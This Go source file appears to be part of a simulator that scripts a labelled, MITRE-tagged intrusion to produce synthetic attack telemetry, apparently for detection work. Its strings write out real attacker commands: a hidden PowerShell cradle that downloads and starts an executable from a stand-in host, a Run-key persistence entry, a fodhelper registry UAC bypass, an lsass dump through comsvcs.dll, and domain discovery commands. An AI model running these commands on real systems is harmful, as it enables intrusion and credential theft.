package simulate

import (
	"fmt"
	"strings"
	"time"
)

// Infrastructure of the intruder. The names read like all the others.
const (
	lureHost   = "docs.quaysidefreight.example"
	beaconHost = "api.tidesyncservices.example"
	dropHost   = "upload.coastalmirror.example"
)

// heist is the state of the main intrusion: the theft of crew-vetting files.
type heist struct {
	w        *world
	in       *Incident
	d        dice
	victim   *person
	helper   *person // administrator whose credentials lie on the victim's host
	word     *process
	stager   *process
	payload  *process
	shell    *process // the injected explorer
	elevated *process
	high     *session
	implant  *process
	beacons  *Trace
	second   *Trace
	until    time.Duration
}

// planIncidents schedules everything hostile.
func (w *world) planIncidents() {
	x := &heist{
		w: w, d: w.dice("heist"), victim: w.member("Permits", 3),
		helper: w.member("Information Technology", 1),
	}
	x.victim.account.admin = true
	x.in = w.key.incident("crew-vetting theft", "A permit officer opens a mailed document; its "+
		"loader leads to an injected shell, stolen administrator credentials, a service on the "+
		"vetting server, and the theft of vetting files and the crew database.")
	days := w.workdays()
	first := days[min(1, len(days)-1)]
	second := days[min(2, len(days)-1)]
	clock := func(day, hour, minute int) time.Duration {
		return time.Duration(day*24+hour)*time.Hour + time.Duration(minute)*time.Minute
	}
	w.at(clock(first, 9, 55)+x.d.span(0, 10*time.Minute), x.helpdesk)
	w.at(clock(first, 10, 30)+x.d.span(0, 9*time.Minute), x.deliver)
	w.at(clock(first, 11, 5)+x.d.span(0, 20*time.Minute), x.enter)
	w.at(clock(first, 11, 40)+x.d.span(0, 20*time.Minute), x.discover)
	w.at(clock(first, 13, 30)+x.d.span(0, 20*time.Minute), x.elevate)
	w.at(clock(first, 13, 55)+x.d.span(0, 15*time.Minute), x.stealCredentials)
	w.at(clock(first, 14, 30)+x.d.span(0, 20*time.Minute), x.move)
	w.at(clock(second, 15, 10)+x.d.span(0, 20*time.Minute), x.collect)
	w.at(clock(second, 15, 50)+x.d.span(0, 10*time.Minute), x.dumpDatabase)
	w.at(clock(second, 16, 15)+x.d.span(0, 10*time.Minute), x.archive)
	w.at(clock(second, 18, 30)+x.d.span(0, 20*time.Minute), x.exfiltrate)
	w.at(clock(second, 19, 20)+x.d.span(0, 10*time.Minute), x.clean)
	w.planSideIncidents(days)
}

// victimActor plays on the victim's desktop; it starts the day when chance
// kept the victim at home.
func (x *heist) victimActor() *actor {
	p := x.victim
	if p.s == nil {
		a := x.w.actor(p.host, x.w.now)
		if !p.host.up {
			a.boot()
		}
		a.signOn(p)
		return x.w.desk(p, a.t)
	}
	return x.w.desk(p, x.w.now)
}

func (x *heist) begin(a *actor, technique, tactic, what string) {
	a.trace = x.in.step(technique, tactic, a.h.fqdn, what)
}

// helpdesk is ordinary: an administrator mends a printer on the victim's
// desktop and so leaves credentials in memory.
func (x *heist) helpdesk() {
	a := x.victimActor()
	b, console := a.elevate(x.victim, x.helper.admin, sys32("mmc.exe"),
		`"C:\Windows\system32\mmc.exe" "C:\Windows\system32\printmanagement.msc"`)
	b.exitAfter(console, b.d.span(4*time.Minute, 9*time.Minute))
}

// deliver: the mailed document, its macro and the loader.
func (x *heist) deliver() {
	a, p := x.victimActor(), x.victim
	outlook := a.app(p, "Outlook")
	x.begin(a, "T1566.001", "initial-access", "The mail program stores a macro document from "+
		"outside with a mark of the web.")
	a.connect(outlook, x.w.server("HA-MX01").target(443, "ssl"), a.page())
	dir, name := a.saveAttachment(p, outlook, "Berth reallocation Q1.docm")
	a.wait(4*time.Second, 20*time.Second)

	x.begin(a, "T1204.002", "execution", "The victim opens the document; Word loads the macro "+
		"engine and the macro starts a script host.")
	x.word = a.spawn(outlook, programs["Word"].image(p), programs["Word"].command(p, dir+name))
	a.load(x.word, `C:\Program Files\Common Files\Microsoft Shared\VBA\VBA7.1\VBE7.DLL`)
	a.wait(8*time.Second, 25*time.Second)
	script := p.appData() + `\Local\Temp\berth-layout.js`
	a.write(x.word, script)
	host := a.spawn(x.word, sys32("wscript.exe"), `"C:\Windows\System32\wscript.exe" //B "`+script+`"`)
	x.in.controls(x.word)
	x.in.controls(host)
	a.exitAfter(host, 40*time.Second)
	a.exitAfter(x.word, a.d.span(4*time.Minute, 12*time.Minute))
	x.load(a, host)
}

// load fetches the payload and starts it.
func (x *heist) load(a *actor, host *process) {
	x.begin(a, "T1105", "command-and-control", "The script has PowerShell fetch a program into "+
		"a folder the user can write.")
	path := x.victim.appData() + `\Roaming\TideSync\tidesync.exe`
	line := `$u='http://` + lureHost + `/assets/layout.png';$p="$env:APPDATA\TideSync";` +
		`md $p -Force|Out-Null;(New-Object Net.WebClient).DownloadFile($u,"$p\tidesync.exe");` +
		`Start-Process "$p\tidesync.exe"`
	x.stager = a.spawn(host, powershell, `powershell.exe -w hidden -nop -c "`+line+`"`)
	x.in.controls(x.stager)
	a.scriptBlock(x.stager, line, "")
	a.wait(300*time.Millisecond, 2*time.Second)
	c := a.connect(x.stager, target{name: lureHost, port: 80, service: "http"},
		volume{310, 872_960, 1700 * time.Millisecond})
	a.w.http(c, request{
		"GET", lureHost, "/assets/layout.png", "-", "application/x-dosexec",
		200, 0, 872_448,
	}, a.trace)
	a.wait(2*time.Second, 3*time.Second)
	a.write(x.stager, path)
	a.w.place(path, "payload of the crew-vetting theft")

	x.begin(a, "T1547.001", "persistence", "The payload starts and enters itself in the user's "+
		"Run key.")
	x.payload = a.spawn(x.stager, path, `"`+path+`"`)
	x.in.controls(x.payload)
	a.exitAfter(x.stager, 3*time.Second)
	a.wait(2*time.Second, 9*time.Second)
	a.setValue(x.payload, `HKU\`+x.victim.account.sid+
		`\Software\Microsoft\Windows\CurrentVersion\Run\TideSync`,
		`"`+path+`" /background`)
	a.wait(5*time.Second, 20*time.Second)
	x.begin(a, "T1071.001", "command-and-control", "The payload, later the shell it entered, "+
		"calls its server over TLS every few minutes.")
	x.beacons = a.trace
	x.until = x.w.dayEnd(a.t, 16*time.Hour+20*time.Minute)
	a.w.at(a.t, func() { x.beacon() })
}

// dayEnd returns the given time of day on the day of t.
func (w *world) dayEnd(t, clock time.Duration) time.Duration {
	return t.Truncate(24*time.Hour) + clock
}

// beacon calls home and plans the next call.
func (x *heist) beacon() {
	p := x.shell
	if p == nil {
		p = x.payload
	}
	if p.gone || !p.host.up || p.boot != p.host.boots || x.w.now > x.until {
		return
	}
	a := x.w.desk(x.victim, x.w.now)
	a.d, a.trace = x.d, x.beacons
	a.connect(p, webTarget(beaconHost), volume{
		int64(a.d.between(900, 2600)),
		int64(a.d.between(700, 9000)), a.d.span(200*time.Millisecond, 3*time.Second),
	})
	a.w.at(a.t+x.d.span(4*time.Minute, 6*time.Minute), x.beacon)
}

// enter moves the payload into the user's shell.
func (x *heist) enter() {
	a := x.victimActor()
	if x.payload == nil || x.payload.gone {
		return
	}
	x.begin(a, "T1055", "defense-evasion", "The payload opens the user's shell with full rights, "+
		"starts a thread in it and ends.")
	shell := x.victim.s.shell
	a.open(x.payload, shell, "0x1FFFFF", traceMemory)
	a.inject(x.payload, shell, "-", "-")
	x.in.controls(shell)
	a.wait(3*time.Second, 9*time.Second)
	a.exit(x.payload)
	x.shell = shell
}

// discover looks around with Windows' own tools.
func (x *heist) discover() {
	if x.shell == nil {
		return
	}
	a := x.victimActor()
	x.begin(a, "T1087.002", "discovery", "From the injected shell a command prompt lists the "+
		"user's rights, the domain's administrators, its controllers and servers.")
	cmd := a.spawn(x.shell, sys32("cmd.exe"), `C:\Windows\system32\cmd.exe`)
	x.in.controls(cmd)
	for _, line := range []string{
		"whoami /all", "nltest /dclist:harbor.example",
		`net group "Domain Admins" /domain`, "ipconfig /all", "net view /domain",
		"ping -n 1 ha-app02", "quser",
	} {
		x.in.controls(a.tool(cmd, line))
		a.wait(3*time.Second, 30*time.Second)
	}
	a.exit(cmd)
}

// elevate passes user account control through a trusted program.
func (x *heist) elevate() {
	if x.shell == nil {
		return
	}
	a, p := x.victimActor(), x.victim
	x.begin(a, "T1548.002", "privilege-escalation", "A registry value makes a trusted program "+
		"start the intruder's command with the user's full token.")
	key := `HKU\` + p.account.sid + `_Classes\ms-settings\shell\open\command`
	helper := sys32("rundll32.exe")
	module := p.appData() + `\Roaming\TideSync\tsview.dll`
	a.write(x.shell, module)
	a.createKey(x.shell, key)
	a.setValue(x.shell, key+`\(Default)`, helper+` "`+module+`",Open`)
	a.setValue(x.shell, key+`\DelegateExecute`, "(Empty)")
	a.wait(time.Second, 4*time.Second)
	x.high = a.elevatedHalf(p.s)
	b := a.as(x.high)
	trusted := b.spawn(x.shell, sys32("fodhelper.exe"), `"C:\Windows\System32\fodhelper.exe"`)
	b.wait(200*time.Millisecond, time.Second)
	x.elevated = b.spawn(trusted, helper, helper+` "`+module+`",Open`)
	bin := a.w.place(module, "module of the crew-vetting theft")
	b.load(x.elevated, bin.path)
	b.exit(trusted)
	x.in.controls(trusted)
	x.in.controls(x.elevated)
}

// elevatedHalf returns the elevated session linked to an administrator's
// desktop session.
func (a *actor) elevatedHalf(s *session) *session {
	half := *s
	half.token, half.level = tokenElevated, "High"
	if s.linked != 0 {
		half.luid, half.linked = s.linked, s.luid
	}
	return &half
}

// stealCredentials reads the memory of lsass into a file.
func (x *heist) stealCredentials() {
	if x.elevated == nil || x.elevated.gone {
		return
	}
	a := x.victimActor().as(x.high)
	x.begin(a, "T1003.001", "credential-access", "The elevated process dumps the memory of lsass "+
		"to a file and reads it.")
	dump := `C:\Users\Public\Libraries\thumbs.dat`
	lsass := a.h.procs["lsass"]
	cmd := fmt.Sprintf(`rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump %d %s full`,
		lsass.pid, dump)
	p := a.spawn(x.elevated, sys32("rundll32.exe"), cmd)
	x.in.controls(p)
	a.load(p, sys32("comsvcs.dll"))
	a.load(p, sys32("dbgcore.dll"))
	a.open(p, lsass, "0x1FFFFF", traceLinked+`|C:\Windows\System32\dbgcore.dll+6ed6`)
	a.write(p, dump)
	a.wait(2*time.Second, 5*time.Second)
	a.exit(p)
	a.wait(time.Minute, 3*time.Minute)
	a.remove(x.elevated, dump, "memory of lsass")
}

// serverName is the short lower-case name of a host.
func (h *host) serverName() string { return strings.ToLower(h.name) }
